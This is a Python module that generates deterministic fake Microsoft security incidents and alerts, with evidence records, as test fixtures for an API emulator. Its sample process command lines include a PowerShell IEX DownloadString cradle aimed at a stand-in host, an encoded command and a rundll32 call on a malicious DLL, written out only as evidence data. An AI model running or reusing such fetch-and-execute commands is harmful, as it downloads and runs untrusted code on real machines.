"""Deterministic fixture data: security incidents.

generate_incidents(count, seed) always returns the same list for the same
arguments (one random.Random(seed), no clock, no hash-ordered iteration).
Some rows deliberately carry awkward characters (quotes, &, #, %, +,
backslash, newlines, non-ASCII) so filter and quoting tests have material.
Each incident also keeps private sort keys (_created_ticks, _updated_ticks)
that strip_private() removes before anything goes on the wire.
"""

import datetime
import random

from common import format_ticks, TICKS_PER_SECOND

TENANT_ID = "00000000-0000-0000-0000-000000000001"

# Fixed anchor (2025-03-01T00:00:00Z in ticks since the Unix epoch) so the data
# never depends on when the emulator runs.
ANCHOR_TICKS = 1740787200 * TICKS_PER_SECOND

STATUSES = ["active", "inProgress", "resolved", "redirected"]
STATUS_WEIGHTS = [40, 20, 30, 10]
SEVERITIES = ["unknown", "informational", "low", "medium", "high"]
SEVERITY_WEIGHTS = [5, 10, 30, 35, 20]

# Determinations that make sense for each classification (values from the
# v1.0 CSDL alertDetermination enum).
DETERMINATIONS = {
    "truePositive": ["apt", "malware", "multiStagedAttack", "compromisedAccount",
                     "phishing", "maliciousUserActivity", "unwantedSoftware"],
    "falsePositive": ["notMalicious", "notEnoughDataToValidate", "other"],
    "informationalExpectedActivity": ["securityTesting", "lineOfBusinessApplication",
                                      "confirmedActivity", "securityPersonnel"],
    "unknown": ["unknown", "other"],
}
CLASSIFICATIONS = ["truePositive", "falsePositive", "informationalExpectedActivity", "unknown"]

ASSIGNEES = ["admin@contoso.com", "soc.analyst@contoso.com", "tier2@contoso.com",
             "jane.doe@contoso.com", "sec-ops@fabrikam.com"]
TAGS = ["Demo", "PCI", "VIP", "Sentinel", "Exec", "Lab", "ransomware", "Q3-review"]
MODIFIERS = ["API-App:admin@contoso.com", "admin@contoso.com", "Automation",
             "soc.analyst@contoso.com", "API-App:11111111-1111-1111-1111-111111111111"]

TACTICS = ["Initial access", "Execution", "Persistence", "Privilege escalation",
           "Defense evasion", "Credential access", "Discovery", "Lateral movement",
           "Collection", "Exfiltration", "Command and control", "Impact"]
HOSTS = ["WS-0142", "FIN-LAPTOP-07", "SQL-PROD-01", "DC01", "FILESRV", "HR-PC-33",
         "BUILD-AGENT-5", "web-frontend-2"]
USERS = ["alice", "bob", "carol", "dave", "svc_backup", "administrator"]
NAME_TEMPLATES = [
    "Multi-stage incident involving {t1} & {t2} on one endpoint",
    "Multi-stage incident involving {t1} & {t2} on multiple endpoints reported by multiple sources",
    "Suspicious PowerShell command line on {host}",
    "{t1} incident on one endpoint",
    "Suspicious sign-in activity for user {user}",
    "Email messages containing malicious URL removed after delivery",
    "Possible credential theft on {host}",
    "Anomalous token usage by {user}",
    "Ransomware activity detected on {host}",
    "Unusual file deletion by {user} on {host}",
]
DESCRIPTIONS = [
    "Automated investigation started for {host}.",
    "Alerts from Defender for Endpoint and Defender for Identity were correlated into this incident.",
    "User {user} signed in from an unfamiliar location.\nThe session was later used to access {host}.",
    "Process tree:\n\tcmd.exe\n\t\tpowershell.exe -enc ...",
    "",
]
SUMMARIES = [
    "An attacker gained access via phishing and moved laterally to {host}.",
    "Credential dumping followed by suspicious remote execution on {host}.",
    "Suspicious mailbox rule created for {user}.",
]
RESOLVING_COMMENTS = [
    "Confirmed benign after review.", "Remediated: device isolated and reimaged.",
    "Duplicate of an earlier incident.", "User's password reset; MFA enforced.",
]
COMMENT_TEXTS = [
    "Investigating.", "Escalated to tier 2.", "Isolated the device.",
    "Customer says it's expected \"maintenance\" work.", "Contacted user — no response yet.",
]

# Rows with awkward characters, used for every 10th incident (index % 10 == 3)
# so any count >= 4 has at least one and 130 covers every entry.
AWKWARD_NAMES = [
    "Suspicious activity by O'Brien on host 'FIN-LAPTOP-07'",
    'Phishing email "Invoice overdue" delivered to 3 users',
    "Ransomware & data exfiltration on SQL-PROD-01",
    "Alert #4711: credential dumping via LSASS",
    "Disk usage 100% reached after wipe attempt on FILESRV",
    "C++ build server ran obfuscated script a+b=c",
    "Malware found in C:\\Users\\Public\\evil.exe",
    "Activité suspecte de connexion — café réseau",
    "日本 office: impossible travel sign-in",
    "Mixed 'single' \"double\" & # % + \\ é 日本",
    "Fire drill 🔥 test incident (non-BMP character)",
    "50% off \"deal\" email & O'Reilly link #phish",
]
AWKWARD_TAGS = [
    ["O'Reilly"], ['say "hi"'], ["R&D"], ["C#"], ["50%"], ["a+b"], ["back\\slash"],
    ["café"], ["日本"], ["O'Reilly", "R&D", "C#"], ["🔥"], ["PCI", "50%"],
]
AWKWARD_ASSIGNEES = [
    "o'brien@contoso.com", "first+filter@contoso.com", "renée@contoso.com",
    "SOC Tier 2 & Friends", "user#1@contoso.com", "100%admin@contoso.com",
    "back\\slash@contoso.com", "josé@contoso.com", "山田@contoso.jp", None,
    "quote\"d@contoso.com", "o'neil+soc@contoso.com",
]


def _fill(template, rng):
    """Fill a name/description template with random parts."""
    return template.format(
        t1=rng.choice(TACTICS), t2=rng.choice(TACTICS),
        host=rng.choice(HOSTS), user=rng.choice(USERS))


def _random_ticks(rng, max_seconds):
    """A random span up to max_seconds with 7-digit sub-second precision."""
    return rng.randint(0, max_seconds) * TICKS_PER_SECOND + rng.randrange(TICKS_PER_SECOND)


def generate_incidents(count, seed):
    """Return `count` incidents, newest createdDateTime first.

    Ids and creation times both increase in creation order, so ids are unique
    and the default order is also descending id."""
    rng = random.Random(seed)
    incidents = []
    created = ANCHOR_TICKS
    next_id = 1000 + rng.randint(0, 999)
    for index in range(count):
        created += rng.randint(10 * 60, 3 * 86400) * TICKS_PER_SECOND + rng.randrange(TICKS_PER_SECOND)
        next_id += rng.randint(1, 9)
        incidents.append(_make_incident(rng, index, str(next_id), created))

    # Redirected incidents point at another incident (merged into it).
    # rng.choice over range(n - 1) draws exactly what rng.choice(ids without
    # this one) drew before, without building that list (O(n) per incident).
    ids = [inc["id"] for inc in incidents]
    for position, inc in enumerate(incidents):
        if inc["status"] == "redirected":
            if len(ids) > 1:
                pick = rng.choice(range(len(ids) - 1))
                inc["redirectIncidentId"] = ids[pick if pick < position else pick + 1]
            else:
                inc["redirectIncidentId"] = str(int(inc["id"]) + 1)

    incidents.sort(key=lambda inc: inc["_created_ticks"], reverse=True)
    return incidents


def _make_incident(rng, index, incident_id, created):
    """Build one incident; key order follows the documented sample."""
    status = rng.choices(STATUSES, STATUS_WEIGHTS)[0]
    severity = rng.choices(SEVERITIES, SEVERITY_WEIGHTS)[0]

    classification = determination = None
    if status == "resolved" or (status in ("active", "inProgress") and rng.random() < 0.25):
        classification = rng.choice(CLASSIFICATIONS)
        if rng.random() < 0.85:
            determination = rng.choice(DETERMINATIONS[classification])

    assigned = None if rng.random() < 0.35 else rng.choice(ASSIGNEES)
    updated = created if rng.random() < 0.05 else created + _random_ticks(rng, 20 * 86400)
    custom_tags = [] if rng.random() < 0.5 else rng.sample(TAGS, rng.randint(1, 3))
    system_tags = ["Defender Experts"] if rng.random() < 0.1 else []
    priority = None if rng.random() < 0.15 else rng.randint(0, 100)
    display_name = _fill(rng.choice(NAME_TEMPLATES), rng)
    description = _fill(rng.choice(DESCRIPTIONS), rng)
    summary = None if rng.random() < 0.2 else _fill(rng.choice(SUMMARIES), rng)
    modified_by = rng.choice(MODIFIERS)

    comments = []
    if rng.random() < 0.15:
        for _ in range(rng.randint(1, 3)):
            when = created + rng.randint(0, max(0, updated - created))
            comments.append({
                "comment": rng.choice(COMMENT_TEXTS),
                "createdByDisplayName": rng.choice(MODIFIERS),
                # Graph trims trailing zeros in some timestamps; comments do so here.
                "createdDateTime": format_ticks(when, digits=None),
            })
        comments.sort(key=lambda c: c["createdDateTime"])

    if index % 10 == 3:
        slot = (index // 10) % len(AWKWARD_NAMES)
        display_name = AWKWARD_NAMES[slot]
        custom_tags = list(AWKWARD_TAGS[slot])
        assigned = AWKWARD_ASSIGNEES[slot]
        description = "Awkward row: " + display_name + "\r\nSecond line."

    return {
        "id": incident_id,
        "tenantId": TENANT_ID,
        "status": status,
        "incidentWebUrl": "https://security.microsoft.com/incident2/%s/overview?tid=%s" % (incident_id, TENANT_ID),
        "redirectIncidentId": None,
        "displayName": display_name,
        "createdDateTime": format_ticks(created),
        "lastUpdateDateTime": format_ticks(updated),
        "assignedTo": assigned,
        "classification": classification,
        "determination": determination,
        "severity": severity,
        "customTags": custom_tags,
        "systemTags": system_tags,
        "description": description,
        "lastModifiedBy": modified_by,
        "resolvingComment": rng.choice(RESOLVING_COMMENTS) if status == "resolved" else None,
        "summary": summary,
        "priorityScore": priority,
        "comments": comments,
        "_created_ticks": created,
        "_updated_ticks": updated,
    }


def strip_private(incident):
    """A wire copy of an incident: private keys removed, lists copied."""
    out = {}
    for key, value in incident.items():
        if key.startswith("_"):
            continue
        if isinstance(value, list):
            value = [dict(v) if isinstance(v, dict) else v for v in value]
        out[key] = value
    return out


# --------------------------------------------------------------------------
# alerts_v2 (microsoft.graph.security.alert) with polymorphic evidence
#
# generate_alerts(incidents, seed) gives every incident 1-5 alerts
# (incidentId = the incident's id).  It has its own random stream, seeded from
# the same seed, so the incidents above do not change.  Incidents are visited
# in creation order, so an incident's alerts do not depend on how many
# incidents were generated.  Only members before unknownFutureValue are used
# for every enum (the others need `Prefer: include-unknown-enum-members`).

DOTNET_EPOCH_TICKS = 621355968000000000     # 0001-01-01 -> 1970-01-01 in .NET ticks
ALERT_COUNT_WEIGHTS = [10, 20, 35, 20, 15]  # 1..5 alerts, about 3.1 on average
ALERT_SEVERITY_ORDER = ["unknown", "informational", "low", "medium", "high"]

# serviceSource -> (productName, detectionSources, id style, evidence kinds, weight)
ALERT_SOURCES = [
    ("microsoftDefenderForEndpoint", "Microsoft Defender for Endpoint",
     ["microsoftDefenderForEndpoint", "antivirus", "smartScreen", "customTi", "automatedInvestigation"],
     "mde", ["device", "process", "file", "user", "url", "ip", "dns"], 45),
    ("microsoftDefenderForOffice365", "Microsoft Defender for Office 365",
     ["microsoftDefenderForOffice365"], "mdo", ["mailbox", "user", "url", "ip"], 20),
    ("microsoftDefenderForIdentity", "Microsoft Defender for Identity",
     ["microsoftDefenderForIdentity"], "mdi", ["user", "device", "ip", "dns"], 12),
    ("microsoftDefenderForCloudApps", "Microsoft Defender for Cloud Apps",
     ["cloudAppSecurity", "appGovernanceDetection"], "mdca", ["user", "ip", "url"], 10),
    ("microsoft365Defender", "Microsoft 365 Defender",
     ["microsoft365Defender", "customDetection"], "m365d", ["user", "device", "url", "dns", "process"], 8),
    ("azureAdIdentityProtection", "Microsoft Entra ID Protection",
     ["azureAdIdentityProtection"], "aadip", ["user", "ip"], 5),
]

ALERT_CATEGORIES = {
    "InitialAccess": ["T1566", "T1566.001", "T1078", "T1190"],
    "Execution": ["T1059", "T1059.001", "T1204.002", "T1047"],
    "Persistence": ["T1547.001", "T1053.005", "T1136"],
    "PrivilegeEscalation": ["T1068", "T1548.002"],
    "DefenseEvasion": ["T1027", "T1070.001", "T1562.001"],
    "CredentialAccess": ["T1003", "T1003.001", "T1110", "T1558.003"],
    "Discovery": ["T1087", "T1018", "T1069.002"],
    "LateralMovement": ["T1021.001", "T1021.002", "T1550.002"],
    "Collection": ["T1114", "T1560"],
    "Exfiltration": ["T1041", "T1567.002"],
    "CommandAndControl": ["T1071.001", "T1105", "T1573"],
    "Impact": ["T1486", "T1490"],
    "Malware": [],
    "SuspiciousActivity": [],
}
ALERT_TITLES = {
    "mde": ["Suspicious PowerShell command line", "Suspicious process injection observed",
            "Possible credential dumping via LSASS memory access", "Ransomware behavior detected in the file system",
            "An active '{threat}' malware was detected", "Suspicious connection to a known C2 domain"],
    "mdo": ["Email messages containing malicious URL removed after delivery",
            "A potentially malicious URL click was detected", "Suspicious email sending patterns detected",
            "User-reported phishing email"],
    "mdi": ["Suspected DCSync attack (replication of directory services)", "Suspected Kerberos SPN exposure",
            "Account enumeration reconnaissance", "Suspected overpass-the-hash attack (Kerberos)"],
    "mdca": ["Impossible travel activity", "Mass download by a single user",
             "Activity from infrequent country", "Suspicious inbox manipulation rule"],
    "m365d": ["Multi-stage attack sequence detected", "Custom detection: encoded PowerShell from Office",
              "Suspicious sign-in followed by mailbox rule creation"],
    "aadip": ["Unfamiliar sign-in properties", "Anonymous IP address", "Leaked credentials",
              "Atypical travel"],
}
AWKWARD_ALERT_TITLES = [
    "Alert for O'Brien: \"invoice\" & #payload (50% match, a+b)",
    "Activité suspecte — 日本 🔥 back\\slash",
]
THREATS = [("Trojan:Win32/Emotet.RPX!MTB", "Emotet"), ("Ransom:Win32/LockBit.ZA!MTB", "LockBit"),
           ("Backdoor:Win64/CobaltStrike.NP!dha", "CobaltStrike"), ("HackTool:Win32/Mimikatz.D", "Mimikatz")]
ACTORS = ["Storm-0501", "Midnight Blizzard", "Octo Tempest", "Sangria Tempest"]
RECOMMENDED_ACTIONS = [
    "A. Validate the alert.\r\nB. Scope the incident.\r\nC. Contain and mitigate the breach.",
    "Review the affected mailbox and block the sender.",
    "Reset the user's password and revoke active sessions.",
    "",
]
INVESTIGATION_STATES = ["unknown", "running", "successfullyRemediated", "benign", "unsupportedAlertType",
                        "terminatedBySystem", "partiallyRemediated", "pendingApproval"]
DOMAINS = ["contoso.com", "fabrikam.com"]
COUNTRIES = ["US", "DE", "NL", "JP", "BR", "FR", None]
NORMAL_URLS = [
    "https://contoso-sharepoint.example/sites/finance/Shared%20Documents/q3.xlsx",
    "http://malicious-download.example/payload.exe",
    "https://login.fabrikam-auth.example/oauth2/authorize?client_id=abc",
    "https://cdn.evil-cdn.example/js/loader.js",
    "http://198.51.100.23/stage2.ps1",
]
NORMAL_DOMAINS = ["malicious-download.example", "c2.evil-cdn.example", "update.fabrikam-auth.example",
                  "time.contoso.com"]
# Hosts that a later "alert domains" feature must normalise: IDN (Unicode and
# punycode), upper case, ports, userinfo, IPv6 and IPv4 hosts, trailing dots,
# missing scheme, paths and queries.
AWKWARD_URLS = [
    "http://WWW.Contoso-Evil.COM/login?next=/home&x=1",
    "https://bücher.example/pfad/überweisung?q=ä",
    "http://xn--bcher-kva.example:8080/a/b",
    "https://evil.example.com:8443/payload.exe#frag",
    "https://user:pa%40ss@login.fabrikam-auth.example/oauth",
    "http://[2001:db8::1]:8443/beacon",
    "HTTPS://MiXeD.Case.Example.ORG./trailing-dot",
    "www.no-scheme.example/path/index.html",
    "https://sub.domain.例え.jp/パス?x=1",
    "http://192.0.2.15:8080/c2",
]
AWKWARD_DNS_NAMES = [
    "Evil.EXAMPLE.com", "bücher.example", "xn--bcher-kva.example", "trailing.example.com.",
    "例え.jp", "_ldap._tcp.dc._msdcs.contoso.com", "C2.Evil-CDN.example",
]


class _FastRandom:
    """The few random helpers the alert generator needs, built on random()
    (one C call each) instead of random.Random's Python-level helpers, which
    made generating 15,000 alerts slow.  Deterministic for a given seed."""

    def __init__(self, seed):
        rng = random.Random(seed)
        self.random = rng.random
        self.getrandbits = rng.getrandbits

    def randrange(self, n):
        return int(self.random() * n)

    def randint(self, low, high):
        return low + int(self.random() * (high - low + 1))

    def choice(self, seq):
        return seq[int(self.random() * len(seq))]

    def weighted(self, seq, weights):
        point = self.random() * sum(weights)
        for item, weight in zip(seq, weights):
            point -= weight
            if point < 0:
                return item
        return seq[-1]

    def sample(self, seq, k):
        pool = list(seq)
        out = []
        for _ in range(k):
            out.append(pool.pop(int(self.random() * len(pool))))
        return out


def _guid(rng):
    """A deterministic version-4 GUID string."""
    text = "%032x" % rng.getrandbits(128)
    return "%s-%s-4%s-%s%s-%s" % (text[:8], text[8:12], text[13:16], "89ab"[int(text[16], 16) & 3],
                                  text[17:20], text[20:])


def _hex(rng, digits):
    return "%0*x" % (digits, rng.getrandbits(digits * 4))


def _ip(rng):
    bits = rng.getrandbits(24)
    return "%d.%d.%d.%d" % ((10, 172, 192, 203)[bits & 3], (bits >> 2) & 255, (bits >> 10) & 255,
                            1 + ((bits >> 18) & 63))


_EPOCH_ORDINAL = datetime.date(1970, 1, 1).toordinal()


_DAY_TEXT = {}


def _ts(ticks):
    """format_ticks(ticks) (7 fraction digits), faster, for bulk fixtures."""
    seconds, frac = divmod(ticks, TICKS_PER_SECOND)
    days, rest = divmod(seconds, 86400)
    day = _DAY_TEXT.get(days)
    if day is None:
        day = _DAY_TEXT[days] = datetime.date.fromordinal(_EPOCH_ORDINAL + days).isoformat()
    return "%sT%02d:%02d:%02d.%07dZ" % (day, rest // 3600, rest // 60 % 60, rest % 60, frac)


def _alert_id(rng, style, created):
    """An id in the shape each product uses; MDE's is 'da<.NET ticks>_<int32>'."""
    if style == "mde":
        return "da%d_%d" % (created + DOTNET_EPOCH_TICKS, rng.randint(-2**31, 2**31 - 1))
    if style == "m365d":
        return "ed%d_%d" % (created + DOTNET_EPOCH_TICKS, rng.randint(-2**31, 2**31 - 1))
    if style == "mdo":
        return "fa" + _guid(rng)
    if style == "mdi":
        return "aa" + _guid(rng)
    if style == "mdca":
        return "ca" + _hex(rng, 32)
    return "ad" + _hex(rng, 40)


class _Identities:
    """Stable user accounts, devices and files, so the same user, host or file
    looks the same in every alert's evidence."""

    def __init__(self, rng):
        self.accounts = {}
        for user in USERS:
            for domain in DOMAINS:
                self.accounts[user, domain] = {
                    "accountName": user,
                    "activeDirectoryObjectGuid": _guid(rng),
                    "azureAdUserId": _guid(rng),
                    "displayName": user.replace("_", " ").title(),
                    "domainName": domain.split(".")[0].upper(),
                    "userPrincipalName": "%s@%s" % (user, domain),
                    "userSid": "S-1-5-21-%d-%d-%d-%d" % (rng.randint(10**8, 10**9), rng.randint(10**8, 10**9),
                                                         rng.randint(10**8, 10**9), rng.randint(1000, 9999)),
                }
        self.devices = {}
        for host in HOSTS:
            self.devices[host] = {
                "azureAdDeviceId": _guid(rng),
                "mdeDeviceId": _hex(rng, 40),
                "ipInterfaces": [_ip(rng), "fe80::%x:%x" % (rng.getrandbits(16), rng.getrandbits(16))],
                "osBuild": rng.choice([19045, 22631, 20348, 17763]),
                "osPlatform": rng.choice(["Windows10", "Windows11", "WindowsServer2022", "WindowsServer2019"]),
                "rbacGroupId": rng.randint(1, 40),
                "rbacGroupName": rng.choice(["Workstations", "Servers", "UnassignedGroup"]),
                "version": rng.choice(["22H2", "23H2", "1809"]),
                "firstSeen": ANCHOR_TICKS - rng.randint(30, 900) * 86400 * TICKS_PER_SECOND,
            }
        self.files = {}
        for name, path in [("evil.exe", "C:\\Users\\Public"), ("invoice.docm", "C:\\Users\\alice\\Downloads"),
                           ("loader.dll", "C:\\ProgramData\\svc"), ("mimikatz.exe", "C:\\Temp"),
                           ("Rechnung – März.pdf.exe", "C:\\Users\\bob\\Downloads"),
                           ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"),
                           ("cmd.exe", "C:\\Windows\\System32")]:
            signed = name in ("powershell.exe", "cmd.exe")
            self.files[name] = {
                "fileName": name,
                "filePath": path,
                "filePublisher": "Microsoft Corporation" if signed else None,
                "fileSize": rng.randint(1024, 5_000_000),
                "issuer": "Microsoft Windows Production PCA 2011" if signed else None,
                "md5": _hex(rng, 32),
                "sha1": _hex(rng, 40),
                "sha256": _hex(rng, 64),
                "sha256Ac": None,
                "signer": "Microsoft Windows" if signed else None,
            }


REMEDIATION = ["none", "none", "none", "remediated", "prevented", "blocked", "notFound", "none"]
VERDICTS = ["unknown", "suspicious", "malicious", "noThreatsFound"]
ROLES = ["compromised", "attacker", "contextual", "suspicious", "source", "destination"]


def _evidence_base(rng, odata_type, created, verdict=None):
    bits = rng.getrandbits(16)
    remediation = REMEDIATION[bits & 7]
    out = {"@odata.type": "#microsoft.graph.security." + odata_type} if odata_type else {}
    out["createdDateTime"] = _ts(created)
    out["detailedRoles"] = ["PrimaryDevice" if odata_type == "deviceEvidence" else "Attacker"] \
        if (bits >> 3) & 3 == 0 else []
    out["remediationStatus"] = remediation
    out["remediationStatusDetails"] = None if remediation == "none" else "Remediated by automated investigation"
    out["roles"] = [ROLES[(bits >> 5) % 6]] if (bits >> 8) & 1 else []
    out["tags"] = ["Demo"] if (bits >> 9) & 7 == 0 else []
    out["verdict"] = verdict or VERDICTS[(bits >> 12) & 3]
    return out


def _nested_ip(created, address, country):
    """An ipEvidence value inside dnsEvidence (declared type, no @odata.type)."""
    return {"createdDateTime": _ts(created), "detailedRoles": [], "remediationStatus": "none",
            "remediationStatusDetails": None, "roles": [], "tags": [], "verdict": "unknown",
            "ipAddress": address, "countryLetterCode": country}


def _make_evidence(rng, kind, created, ctx, index, ids):
    """One evidence object of `kind`; ctx names the alert's host/user/domain."""
    when = created - rng.randrange(600 * TICKS_PER_SECOND)
    user, domain, host = ctx["user"], ctx["domain"], ctx["host"]
    if kind == "device":
        dev = ids.devices[host]
        ev = _evidence_base(rng, "deviceEvidence", when)
        ev.update({
            "azureAdDeviceId": dev["azureAdDeviceId"],
            "defenderAvStatus": rng.choice(["updated", "updated", "notUpdated", "notReporting"]),
            "deviceDnsName": "%s.%s" % (host.lower(), domain),
            "firstSeenDateTime": _ts(dev["firstSeen"]),
            "healthStatus": rng.choice(["active", "active", "inactive", "impairedCommunication"]),
            "ipInterfaces": list(dev["ipInterfaces"]),
            "lastExternalIpAddress": "203.0.113.%d" % rng.randint(1, 254),
            "lastIpAddress": dev["ipInterfaces"][0],
            "loggedOnUsers": [{"accountName": user, "domainName": domain.split(".")[0].upper()}],
            "mdeDeviceId": dev["mdeDeviceId"],
            "onboardingStatus": "onboarded",
            "osBuild": dev["osBuild"],
            "osPlatform": dev["osPlatform"],
            "rbacGroupId": dev["rbacGroupId"],
            "rbacGroupName": dev["rbacGroupName"],
            "riskScore": rng.choice(["none", "informational", "low", "medium", "high"]),
            "version": dev["version"],
            "vmMetadata": None,
        })
        return ev
    if kind == "user":
        ev = _evidence_base(rng, "userEvidence", when)
        ev["userAccount"] = ids.accounts[user, domain]
        return ev
    if kind == "url":
        ev = _evidence_base(rng, "urlEvidence", when)
        if index % 5 == 1:
            ev["url"] = AWKWARD_URLS[(index // 5) % len(AWKWARD_URLS)]
        else:
            ev["url"] = rng.choice(NORMAL_URLS)
        return ev
    if kind == "dns":
        ev = _evidence_base(rng, "dnsEvidence", when)
        if index % 7 == 3:
            ev["domainName"] = AWKWARD_DNS_NAMES[(index // 7) % len(AWKWARD_DNS_NAMES)]
        else:
            ev["domainName"] = rng.choice(NORMAL_DOMAINS)
        ev["dnsServerIp"] = _nested_ip(when, "10.0.0.53", None)
        ev["hostIpAddress"] = _nested_ip(when, ids.devices[host]["ipInterfaces"][0], None)
        ev["ipAddresses"] = [_nested_ip(when, "198.51.100.%d" % rng.randint(1, 254), rng.choice(COUNTRIES))
                             for _ in range(1 + (index & 1))]
        return ev
    if kind == "ip":
        ev = _evidence_base(rng, "ipEvidence", when)
        ev["ipAddress"] = _ip(rng)
        ev["countryLetterCode"] = rng.choice(COUNTRIES)
        return ev
    if kind == "file":
        ev = _evidence_base(rng, "fileEvidence", when, verdict=rng.choice(["malicious", "suspicious"]))
        ev["detectionStatus"] = rng.choice(["detected", "blocked", "prevented"])
        ev["fileDetails"] = ids.files[rng.choice(["evil.exe", "invoice.docm", "loader.dll", "mimikatz.exe",
                                                  "Rechnung – März.pdf.exe"])]
        ev["mdeDeviceId"] = ids.devices[host]["mdeDeviceId"]
        return ev
    if kind == "process":
        ev = _evidence_base(rng, "processEvidence", when)
        start = when - rng.randrange(3600 * TICKS_PER_SECOND)
        ev.update({
            "detectionStatus": rng.choice(["detected", "blocked", None]),
            "imageFile": ids.files["powershell.exe"],
            "mdeDeviceId": ids.devices[host]["mdeDeviceId"],
            "parentProcessCreationDateTime": _ts(start - rng.randrange(600 * TICKS_PER_SECOND)),
            "parentProcessId": rng.randint(100, 20000),
            "parentProcessImageFile": ids.files["cmd.exe"],
            "processCommandLine": rng.choice(PROCESS_COMMAND_LINES),
            "processCreationDateTime": _ts(start),
            "processId": rng.randint(100, 20000),
            "userAccount": ids.accounts[user, domain],
        })
        return ev
    if kind == "mailbox":
        ev = _evidence_base(rng, "mailboxEvidence", when)
        ev["displayName"] = user.replace("_", " ").title()
        ev["primaryAddress"] = "%s@%s" % (user, domain)
        ev["userAccount"] = ids.accounts[user, domain]
        return ev
    raise AssertionError(kind)


PROCESS_COMMAND_LINES = [
    "powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
    "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')\"",
    "rundll32.exe C:\\Users\\Public\\evil.dll,Start",
]


def generate_alerts(incidents, seed):
    """The alerts of `incidents` (from generate_incidents with the same seed),
    newest createdDateTime first, ties by id.  Rows keep private sort keys
    (_created_ticks, _updated_ticks) like incidents.  Nested evidence values
    (accounts, file details) are shared between rows: never change them in
    place."""
    rng = _FastRandom("alerts-v2:%d" % seed)
    ids = _Identities(rng)
    alerts = []
    seen_ids = set()
    index = 0
    for inc in sorted(incidents, key=lambda i: i["_created_ticks"]):
        count = rng.weighted(range(1, 6), ALERT_COUNT_WEIGHTS)
        for position in range(count):
            alerts.append(_make_alert(rng, inc, position, index, seen_ids, ids))
            index += 1
    alerts.sort(key=lambda a: a["id"])
    alerts.sort(key=lambda a: a["_created_ticks"], reverse=True)
    return alerts


_SOURCE_WEIGHTS = [source[5] for source in ALERT_SOURCES]
_CATEGORY_NAMES = sorted(ALERT_CATEGORIES)


def _make_alert(rng, inc, position, index, seen_ids, ids):
    source, product, detections, style, kinds, _ = rng.weighted(ALERT_SOURCES, _SOURCE_WEIGHTS)
    inc_created, inc_updated = inc["_created_ticks"], inc["_updated_ticks"]
    if position == 0:
        created = inc_created - rng.randrange(300 * TICKS_PER_SECOND)
    else:
        created = inc_created + rng.randint(0, max(0, inc_updated - inc_created))
    updated = created + rng.randint(0, max(0, inc_updated - created))
    first_activity = created - rng.randrange(3600 * TICKS_PER_SECOND)
    last_activity = first_activity + rng.randint(0, created - first_activity)

    alert_id = _alert_id(rng, style, created)
    while alert_id in seen_ids:
        alert_id = _alert_id(rng, style, created)
    seen_ids.add(alert_id)

    inc_status = inc["status"]
    if inc_status == "resolved":
        status = "resolved"
    elif inc_status == "inProgress":
        status = rng.weighted(["new", "inProgress", "resolved"], [30, 55, 15])
    else:
        status = rng.weighted(["new", "inProgress", "resolved"], [65, 20, 15])

    classification = determination = None
    if status == "resolved" or rng.random() < 0.15:
        if inc["classification"] is not None and rng.random() < 0.8:
            classification, determination = inc["classification"], inc["determination"]
        else:
            classification = rng.choice(CLASSIFICATIONS)
            determination = rng.choice(DETERMINATIONS[classification]) if rng.random() < 0.85 else None

    if position == 0:
        severity = inc["severity"]
    else:
        severity = rng.choice(ALERT_SEVERITY_ORDER[:ALERT_SEVERITY_ORDER.index(inc["severity"]) + 1])
    assigned = inc["assignedTo"] if rng.random() < 0.8 else rng.choice([None] + ASSIGNEES)

    category = rng.choice(_CATEGORY_NAMES)
    techniques = ALERT_CATEGORIES[category]
    mitre = sorted(rng.sample(techniques, rng.randint(0, min(2, len(techniques))))) if techniques else []
    threat = rng.choice(THREATS) if (category in ("Malware", "Impact") or rng.random() < 0.1) else None
    title = rng.choice(ALERT_TITLES[style]).format(threat=threat[1] if threat else "Emotet")
    if index % 10 == 4:
        title = AWKWARD_ALERT_TITLES[(index // 10) % len(AWKWARD_ALERT_TITLES)]
    ctx = {"host": rng.choice(HOSTS), "user": rng.choice(USERS), "domain": rng.choice(DOMAINS)}

    wanted = [kinds[0]] + rng.sample(kinds[1:], rng.randint(0, min(4, len(kinds) - 1)))
    if index % 5 == 1 and "url" in kinds and "url" not in wanted:
        wanted.append("url")
    if index % 7 == 3 and "dns" in kinds and "dns" not in wanted:
        wanted.append("dns")
    evidence = [_make_evidence(rng, kind, created, ctx, index, ids) for kind in wanted]

    comments = []
    if rng.random() < 0.1:
        when = created + rng.randint(0, max(0, updated - created))
        comments.append({"comment": rng.choice(COMMENT_TEXTS), "createdByDisplayName": rng.choice(MODIFIERS),
                         "createdDateTime": format_ticks(when, digits=None)})
    custom_details = {}
    if "customDetection" in detections and rng.random() < 0.6:
        custom_details = {"UserName": ctx["user"], "ProcessCount": str(rng.randint(1, 40))}
    detection = rng.choice(detections)
    updated_text = _ts(updated)

    return {
        "id": alert_id,
        "providerAlertId": alert_id if style == "mde" else _guid(rng),
        "incidentId": inc["id"],
        "status": status,
        "severity": severity,
        "classification": classification,
        "determination": determination,
        "serviceSource": source,
        "detectionSource": detection,
        "productName": product,
        "detectorId": _guid(rng),
        "tenantId": TENANT_ID,
        "title": title,
        "description": "%s on %s (user %s).\nSee the alert story for details." % (title, ctx["host"], ctx["user"]),
        "recommendedActions": rng.choice(RECOMMENDED_ACTIONS),
        "category": category,
        "categories": [category],
        "assignedTo": assigned,
        "alertWebUrl": "https://security.microsoft.com/alerts/%s?tid=%s" % (alert_id, TENANT_ID),
        "incidentWebUrl": inc["incidentWebUrl"],
        "actorDisplayName": rng.choice(ACTORS) if rng.random() < 0.1 else None,
        "threatDisplayName": threat[0] if threat else None,
        "threatFamilyName": threat[1] if threat else None,
        "mitreTechniques": mitre,
        "createdDateTime": _ts(created),
        "lastUpdateDateTime": updated_text,
        "resolvedDateTime": updated_text if status == "resolved" else None,
        "firstActivityDateTime": _ts(first_activity),
        "lastActivityDateTime": _ts(last_activity),
        "alertPolicyId": _guid(rng) if style in ("mdo", "mdca") else None,
        "investigationState": rng.choice(INVESTIGATION_STATES) if style == "mde" else "unsupportedAlertType",
        "comments": comments,
        "systemTags": ["Defender Experts"] if rng.random() < 0.05 else [],
        "customDetails": custom_details,
        "additionalData": {} if rng.random() < 0.6 else {"detectionSource": detection, "isPreview": False},
        "evidence": evidence,
        "_created_ticks": created,
        "_updated_ticks": updated,
    }
